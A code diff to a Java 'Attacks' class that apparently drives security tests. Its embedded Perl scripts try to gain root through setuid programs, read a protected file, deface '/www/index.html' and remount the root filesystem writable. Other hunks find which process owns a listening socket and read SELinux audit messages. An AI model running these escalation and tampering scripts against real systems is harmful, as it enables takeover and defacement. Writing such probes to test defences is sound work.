@@ -108,25 +108,21 @@ final class Attacks {
 
   /**
    * Becomes root in the shop, or at least reads root's file, through any program that does in Perl
-   * what it is told: a power may be written onto each. Then changes the page, the programs, or
-   * anything else that the shop is made of.
+   * what it is told: a power may be written onto each, but the robber's own has it here already.
+   * Changes the page, the programs, or anything else that the shop is made of.
    */
   static String byUser() {
     return WALK
         + """
-        $ENV{PATH} = "/bin:/usr/bin";
-        my (@programs, @climbing);
+        my $own = join " ", (stat "/proc/self/exe")[0, 1];
+        my @programs;
         walk "/", sub {
           -f _ or return;
-          push @climbing, $_[0] if -u _;
-          push @programs, $_[0] if (stat _)[2] & 1 and -s _ > 99 << 10 and $_[0] !~ m{[.]so[.][^/]*$|/busybox$};
+          my $large = (stat _)[2] & 1 && -s _ > 99 << 10 && $_[0] !~ m{[.]so[.][^/]*$|/busybox$};
+          push @programs, $_[0] if -u _ or $large and $own ne join " ", (stat _)[0, 1];
         };
         way "by reading it";
         show "/safe";
-        for my $program (@programs) {
-          way "through $program";
-          system $program, "-e", q{print "ROOT NONCE\\n" unless $>; open S, "<", "/safe" and print <S>};
-        }
         sub add { way "$_[0]: $_[1]"; open FILE, ">>", $_[1] and done }
         sub put { way "$_[0]: $_[1]"; open FILE, ">", $_[1] and unlink $_[1] and done }
         sub all {
@@ -146,13 +142,21 @@ final class Attacks {
         }
         my ($none, $root) = ("none", "/");
         syscall(165, $none, $root, $none, 32, 0) == 0 and all "after a remount";
-        for my $program (@climbing) {
-          way "through $program: /www/index.html";
+        for my $program (@programs) {
+          way "through $program";
           system $program, "-e", q{
-            sub add { open F, ">>", "/www/index.html" and print "DONE NONCE\\n" }
-            add; $ENV{PATH} = "/bin"; $< = $>; system "mount", "-o", "remount,rw", "/";
-            print "#through $ARGV[0], after a remount\\n"; add}, $program;
+            $< = $> = 0; $< = $>;
+            print "ROOT NONCE\\n" unless $>;
+            open S, "<", "/safe" and print <S>;
+            sub all { print "#through $ARGV[0]$_[0]\\n"; open F, ">>", "/www/index.html" and print "DONE NONCE\\n" }
+            all ": /www/index.html";
+            my ($none, $root) = ("none", "/");
+            syscall(165, $none, $root, $none, 32, 0) == 0 and all ", after a remount"}, $program;
         }
+        way "by becoming user 0 (SETUID)";
+        $< = $> = 0;
+        print "ROOT NONCE\\n" unless $>;
+        show "/safe";
         """;
   }
 
@@ -240,9 +244,15 @@ final class Attacks {
           open(SOCKETS, "<", $table) or next;
           /$door \\S+ 0A / and $waits{"socket:[" . (split)[9] . "]"} = 1 for <SOCKETS>;
         }
-        my ($its) = grep { $waits{readlink($_) // ""} } glob("/proc/[0-9]*/fd/*");
-        $its and $its =~ s/fd.*/status/ and open(STATUS, "<", $its) or exit;
-        /^([UG])id:\\s+(\\d+)/ and ($1 eq "U" ? $user : $group) = $2 for <STATUS>;
+        opendir(PROCESSES, "/proc");
+        for my $its (map { /^\\d/ ? "/proc/$_" : () } readdir(PROCESSES)) {
+          opendir(FILES, "$its/fd") or next;
+          grep { $waits{readlink("$its/fd/$_") // ""} } readdir(FILES) or next;
+          open(STATUS, "<", "$its/status") or exit;
+          /^([UG])id:\\s+(\\d+)/ and ($1 eq "U" ? $user : $group) = $2 for <STATUS>;
+          last;
+        }
+        defined($user) or exit;
       }
       print("owner $user ", getpwuid($user) // "", "\\ngroup $group ", getgrgid($group) // "", "\\n");
       exit unless $left;
@@ -276,12 +286,9 @@ final class Attacks {
         my $length = syscall(191, $file, $kind, $label, 255); # getxattr
         print("label ", $length > 0 ? substr($label, 0, $length) =~ tr/\\0//dr : "?", "\\n");
       }
-      my $ring = " " x 65536;
-      my $length = syscall(103, 3, $ring, 65536); # syslog: the kernel's last messages
-      my $since;
-      for (split(/\\n/, substr($ring, 0, $length))) {
-        $since ||= /robber NONCE/;
-        print("$_\\n") if $since and /avc:/;
+      my $message;
+      while (sysread(KERNEL, $message, 8192) or $! == 32) { # EPIPE: some were lost
+        $message =~ /;(.*avc:.*)/ and print("$1\\n");
       }
       """;
 }
